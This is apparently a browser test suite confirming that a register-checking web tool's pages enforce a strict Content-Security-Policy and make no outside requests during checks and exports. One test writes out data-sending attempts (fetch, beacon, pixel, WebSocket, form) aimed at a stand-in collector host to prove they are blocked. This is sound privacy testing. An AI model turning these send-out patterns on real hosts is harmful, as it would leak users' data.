// Privacy that can be proven: every page declares a strict policy, the browser enforces it, and
// during a whole check and export the served page, the example portal and the offline file make
// no request beyond their own static files before the file is chosen, and none at all after.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { startServer } from '../../scripts/server.mjs';
import { execFileSync } from 'node:child_process';
import { CLI, OFFLINE, ROOT, TIMEOUT, assertBuilt, generatedRegister, installPortal, launch, recordRequests, settle, tempDir, reportOrError } from './lib.mjs';

let browser;
let tmp;
let fixture;
let site;
let portalDir;
let portal;

before(async () => {
  assertBuilt([[OFFLINE, 'the single-file build']]);
  tmp = tempDir('huqing-privacy-');
  fixture = generatedRegister(tmp.dir, { households: 120, seed: 53 });
  portalDir = installPortal(tmp.dir);
  site = await startServer({ root: join(ROOT, 'www'), port: 0 });
  portal = await startServer({ root: portalDir, port: 0 });
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await site?.close();
  await portal?.close();
  tmp?.cleanup();
});

const PAGES = [
  ['www/index.html', "'self'"],
  ['www/embed.html', "'self'"],
  ['examples/portal/index.html', "'self'"],
  ['dist/huqing-offline.html', "'none'"],
];

/** The policy a page declares, as {directive: [sources]}. */
function policyOf(file) {
  const html = readFileSync(join(ROOT, file), 'utf8');
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/);
  assert.ok(meta, `${file} declares no Content-Security-Policy`);
  return Object.fromEntries(meta[1].split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k, v]));
}

test('every page declares a strict policy: no third parties, nothing sent, no inline scripts', () => {
  for (const [file, connect] of PAGES) {
    const p = policyOf(file);
    assert.deepEqual(p['connect-src'], [connect], `${file}: connect-src`);
    for (const d of ['form-action', 'base-uri', 'object-src']) assert.deepEqual(p[d], ["'none'"], `${file}: ${d}`);
    assert.ok(p['default-src'], `${file}: no default-src`);
    for (const [directive, sources] of Object.entries(p)) {
      for (const s of sources) {
        // Only the page's own origin, hashes, blob: workers, data: images and wasm compilation.
        assert.ok(["'self'", "'none'", "'wasm-unsafe-eval'", 'data:', 'blob:'].includes(s) || /^'sha256-[A-Za-z0-9+/=]+'$/.test(s),
          `${file}: ${directive} allows ${s}`);
      }
    }
    assert.ok(!p['script-src'].includes('data:') && !p['script-src'].includes('blob:'), `${file}: script-src`);
    assert.ok(!(p['worker-src'] || []).includes('data:'), `${file}: worker-src`);
  }
});

/** Every file of a directory, recursively. */
function files(dir) {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? files(path) : [path];
  });
}

test('no page, script or style names another site (no CDN, font, analytics)', () => {
  const sources = [...files(join(ROOT, 'www')), ...files(join(ROOT, 'examples', 'portal'))]
    .filter((f) => /\.(html|js|css)$/.test(f) && !f.includes(`${join('www', 'pkg')}`));
  assert.ok(sources.length >= 8, 'too few sources found');
  for (const file of sources) {
    const text = readFileSync(file, 'utf8');
    const urls = [...text.matchAll(/(?:src|href|url|import|from|fetch)\s*[=(]?\s*["'`(]\s*((?:https?:)?\/\/[^"'`)\s]+)/g)].map((m) => m[1]);
    assert.deepEqual(urls, [], `${relative(ROOT, file)} loads from another site`);
    assert.doesNotMatch(text, /@import|@font-face|googleapis|gstatic|cdn\.|analytics|gtag\(|baidu\.com\/hm/i, relative(ROOT, file));
  }
});

test('the browser enforces the served page\'s policy: attempts to send are blocked', { timeout: TIMEOUT }, async (t) => {
  const context = await browser.newContext();
  t.after(() => context.close());
  const page = await context.newPage();
  await page.goto(site.url, { waitUntil: 'load' });
  const log = recordRequests(context, page);
  const failures = new Map();
  context.on('requestfailed', (r) => failures.set(r.url(), r.failure()?.errorText));
  const result = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const fetched = await fetch('http://collector.invalid/upload', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked');
    navigator.sendBeacon('http://collector.invalid/beacon', 'x');
    const img = new Image();
    img.src = 'http://collector.invalid/pixel.gif';
    try { new WebSocket('ws://collector.invalid/'); } catch { /* blocked synchronously in some versions */ }
    const form = document.createElement('form');
    form.action = 'http://collector.invalid/form';
    form.method = 'post';
    document.body.append(form);
    form.submit();
    await new Promise((ok) => setTimeout(ok, 500));
    return { fetched, violations };
  });
  assert.equal(result.fetched, 'blocked');
  for (const d of ['connect-src', 'img-src', 'form-action']) {
    assert.ok(result.violations.some((v) => v.startsWith(d)), `no ${d} violation: ${result.violations}`);
  }
  assert.ok(result.violations.filter((v) => v.startsWith('connect-src')).length >= 2, `fetch and beacon: ${result.violations}`);
  // Chromium announces a blocked image before refusing it: it must fail as blocked by the policy.
  for (const r of log.requests.filter((x) => x.url.includes('collector.invalid'))) {
    assert.match(String(failures.get(r.url)), /csp/i, `${r.url} was not blocked by the policy`);
  }
});

/**
 * Opens `url`, lets it load everything it loads at start, then checks the fixture with
 * `run(page)`. Returns the requests before the file was chosen and those after.
 */
async function silence(t, url, run) {
  const context = await browser.newContext({ locale: 'zh-CN', acceptDownloads: true });
  t.after(() => context.close());
  const page = await context.newPage();
  const log = recordRequests(context, page);
  await page.goto(url, { waitUntil: 'load' });
  await settle(log);
  const mark = log.mark();
  await run(page);
  await settle(log);
  assert.deepEqual(log.sockets, [], 'a websocket was opened');
  assert.deepEqual(context.serviceWorkers(), [], 'a service worker was registered');
  assert.deepEqual(log.errors, []);
  return { before: log.requests.slice(0, mark), after: log.since(mark) };
}

/** Asserts each request is a GET of a file that exists under `root`, served from `base`. */
function assertOwnStaticFiles(requests, base, root) {
  assert.ok(requests.length > 0, 'nothing was loaded at all');
  for (const r of requests) {
    // GETs, and the page's HEAD of itself (to see whether the site sends its headers).
    assert.ok(r.method === 'GET' || (r.method === 'HEAD' && r.type === 'fetch'), `${r.method} ${r.url}`);
    if (r.url.startsWith('data:') || r.url.startsWith('blob:')) continue;
    assert.ok(r.url.startsWith(base), `${r.url} is not the page's own`);
    let path = decodeURIComponent(new URL(r.url).pathname);
    if (path.endsWith('/')) path += 'index.html';
    assert.ok(existsSync(join(root, path)), `${r.url} is not one of the page's static files`);
  }
}

async function exportCsv(page) {
  const [download] = await Promise.all([page.waitForEvent('download'), page.locator('#export').click()]);
  const path = join(tmp.dir, `export-${Date.now()}.csv`);
  await download.saveAs(path);
  assert.equal(readFileSync(path, 'utf8').trimEnd().split('\r\n').length, fixture.cli.findings.length + 1);
}

async function checkOnPage(page) {
  await page.setInputFiles('#file', fixture.path);
  await page.waitForFunction(reportOrError, null, { timeout: TIMEOUT });
  assert.equal(await page.locator('#error').isVisible(), false);
  assert.equal(Number((await page.locator('#r-rows').innerText()).replace(/\D/g, '')), fixture.cli.rows);
  await exportCsv(page);
}

test('the served page: own static files at load, then silence through check and export', { timeout: TIMEOUT * 2 }, async (t) => {
  const { before, after } = await silence(t, site.url, checkOnPage);
  assertOwnStaticFiles(before, site.url, join(ROOT, 'www'));
  assert.ok(before.some((r) => /\/pkg\/huqing-worker(-threads)?\.js$/.test(r.url)), 'the worker and its wasm should load before the file is chosen');
  assert.deepEqual(after, [], 'requests after the file was chosen');
});

test('the served page: checks cancelled one after another request nothing (new workers start from memory)', { timeout: TIMEOUT * 2 }, async (t) => {
  const data = readFileSync(fixture.path).toString('base64');
  const { after } = await silence(t, site.url, async (page) => {
    const out = await page.evaluate(async (data) => {
      const { check } = await import('./huqing.js');
      const bytes = () => Uint8Array.from(atob(data), (c) => c.charCodeAt(0));
      const codes = [];
      for (let i = 0; i < 10; i++) {
        const abort = new AbortController();
        const running = check(bytes(), { name: 'reg.xlsx', signal: abort.signal });
        setTimeout(() => abort.abort(), i * 3);
        codes.push(await running.then(() => 'done', (e) => e.code));
      }
      const report = await check(bytes(), { name: 'reg.xlsx' });
      return { codes, rows: report.rows };
    }, data);
    assert.ok(out.codes.includes('aborted'), JSON.stringify(out.codes));
    assert.equal(out.rows, fixture.cli.rows);
  });
  // A worker started from the kept Blob URL shows as a blob: request, which never leaves the page.
  assert.deepEqual(after.filter((r) => !r.url.startsWith('blob:')), [], 'requests after the cancels');
});

test('the example portal: own static files at load, then silence through both checks', { timeout: TIMEOUT * 2 }, async (t) => {
  const { before, after } = await silence(t, portal.url, async (page) => {
    const done = page.evaluate(() => new Promise((ok, fail) => {
      const el = document.querySelector('huqing-checker');
      el.addEventListener('huqing-done', (e) => ok(e.detail.rows), { once: true });
      el.addEventListener('huqing-error', (e) => fail(new Error(e.detail.message_en)), { once: true });
    }));
    await page.locator('huqing-checker input[type=file]').setInputFiles(fixture.path);
    assert.equal(await done, fixture.cli.rows);
    await page.setInputFiles('#api-file', fixture.path);
    await page.waitForSelector('#api-counts:not([hidden])', { timeout: TIMEOUT });
  });
  assertOwnStaticFiles(before, portal.url, portalDir);
  assert.ok(before.some((r) => r.url.endsWith('/huqing-worker-threads.js')), 'the worker and its wasm should load before the file is chosen');
  assert.deepEqual(after, [], 'requests after the file was chosen');
});

test('the offline file: only itself at load, then silence through check and export', { timeout: TIMEOUT * 2 }, async (t) => {
  const url = pathToFileURL(OFFLINE).href;
  const { before, after } = await silence(t, url, checkOnPage);
  assert.deepEqual(before.filter((r) => r.url !== url && !r.url.startsWith('blob:')), [], 'the offline file loaded another file');
  assert.deepEqual(after, [], 'requests after the file was chosen');
});

test('a department list (部门数据比对): silence through the check and the comparison, its findings beside the register\'s', { timeout: TIMEOUT * 2 }, async (t) => {
  // A clean register and the lists the generator writes beside it, with their expected findings.
  const register = join(tmp.dir, 'compared.xlsx');
  const lists = join(tmp.dir, 'lists');
  execFileSync(CLI, ['generate', '--households', '120', '--seed', '5', '--clean', '--out', register, '--lists', lists], { stdio: 'pipe' });
  const expected = JSON.parse(readFileSync(join(lists, 'expected.json'), 'utf8'));
  const files = ['车辆登记信息.csv', '死亡人员名单.csv'];
  const b64 = (path) => readFileSync(path).toString('base64');
  const { before, after } = await silence(t, site.url, async (page) => {
    const result = await page.evaluate(async ({ reg, lists }) => {
      const { check } = await import('./huqing.js');
      const file = (data, name) => new File([Uint8Array.from(atob(data), (c) => c.charCodeAt(0))], name);
      const report = await check(file(reg, 'compared.xlsx'), {
        compare: lists.map(([name, data], i) => ({ file: file(data, name), kind: i === 1 ? 'deceased' : undefined })),
      });
      return {
        compare: report.compare.map((l) => [l.file, l.kind, l.kind_source]),
        found: report.findings.filter((f) => f.rule.startsWith('list-'))
          .map((f) => [f.rule, f.rows, f.locations?.[0]?.file ?? '', f.locations?.[0]?.row ?? null]),
      };
    }, { reg: b64(register), lists: files.map((f) => [f, b64(join(lists, f))]) });
    assert.deepEqual(result.compare, [['车辆登记信息.csv', 'vehicle', 'file-name'], ['死亡人员名单.csv', 'deceased', 'option']]);
    const want = expected.filter((e) => ['list-vehicle', 'list-deceased'].includes(e.rule))
      .map((e) => [e.rule, e.rows, e.list_row === null ? '' : e.list, e.list_row]);
    const sort = (v) => v.map((x) => JSON.stringify(x)).sort();
    assert.deepEqual(sort(result.found), sort(want));
  });
  assertOwnStaticFiles(before, site.url, join(ROOT, 'www'));
  assert.deepEqual(after, [], 'requests after the register and the lists were chosen');
});

test('a list and last period\'s register chosen on the page: silence through the check, both comparisons and an export', { timeout: TIMEOUT * 2 }, async (t) => {
  const now = join(tmp.dir, 'period-now.xlsx');
  const last = join(tmp.dir, 'period-last.xlsx');
  const lists = join(tmp.dir, 'period-lists');
  execFileSync(CLI, ['generate', '--households', '120', '--seed', '8', '--out', now, '--previous', last], { stdio: 'pipe' });
  // A list of another register's people: read and compared, whatever it matches.
  execFileSync(CLI, ['generate', '--households', '60', '--seed', '9', '--clean', '--out', join(tmp.dir, 'other.xlsx'), '--lists', lists], { stdio: 'pipe' });
  const { before, after } = await silence(t, site.url, async (page) => {
    await page.setInputFiles('#compare-file', join(lists, '车辆登记信息.csv'));
    await page.setInputFiles('#previous-file', last);
    await page.setInputFiles('#file', now);
    await page.waitForFunction(reportOrError, null, { timeout: TIMEOUT });
    assert.equal(await page.locator('#error').isVisible(), false);
    assert.ok(await page.locator('#period-panel').isVisible(), 'the period comparison is shown');
    assert.match(await page.locator('#compare-results').innerText(), /车辆登记信息\.csv/);
    const [download] = await Promise.all([page.waitForEvent('download', { timeout: TIMEOUT }), page.click('#downloads button[data-kind="masked-xlsx"]')]);
    assert.ok(await download.path());
  });
  assertOwnStaticFiles(before, site.url, join(ROOT, 'www'));
  assert.deepEqual(after, [], 'requests after the register, the list and last period\'s register were chosen');
});

test('served without security headers, the page says so and its worker is still held by the page\'s policy', { timeout: TIMEOUT * 2 }, async (t) => {
  const bare = await startServer({ root: join(ROOT, 'www'), port: 0, headers: false });
  t.after(() => bare.close());
  const context = await browser.newContext({ locale: 'zh-CN' });
  t.after(() => context.close());
  const page = await context.newPage();
  await page.goto(bare.url, { waitUntil: 'load' });
  const note = page.locator('#served-headers');
  await note.waitFor({ state: 'visible', timeout: TIMEOUT });
  assert.match(await note.innerText(), /Content-Security-Policy/);
  assert.match(await note.innerText(), /docs\/deploy\.md/);
  // The worker, started from a Blob URL, inherits the <meta> policy: it cannot send anywhere.
  await page.waitForFunction(() => document.querySelector('#file') !== null);
  const started = Date.now();
  while (page.workers().length === 0 && Date.now() - started < TIMEOUT) await new Promise((ok) => setTimeout(ok, 50));
  const [worker] = page.workers();
  assert.ok(worker, 'no worker was started');
  assert.match(worker.url(), /^blob:/);
  // Another origin that answers (the other test server): without a policy, the request would go.
  const sent = await worker.evaluate((url) => fetch(url, { mode: 'no-cors' }).then(() => 'sent', (e) => `blocked: ${e}`), site.url);
  assert.match(sent, /^blocked/);
});

test('the privacy test itself sees a request made after the file is chosen', { timeout: TIMEOUT }, async (t) => {
  // A guard against a recorder that hears nothing: a request made after the mark is caught.
  const { after } = await silence(t, site.url, async (page) => {
    await page.evaluate(() => fetch('style.css'));
  });
  assert.equal(after.length, 1);
  assert.ok(after[0].url.endsWith('/style.css'));
});
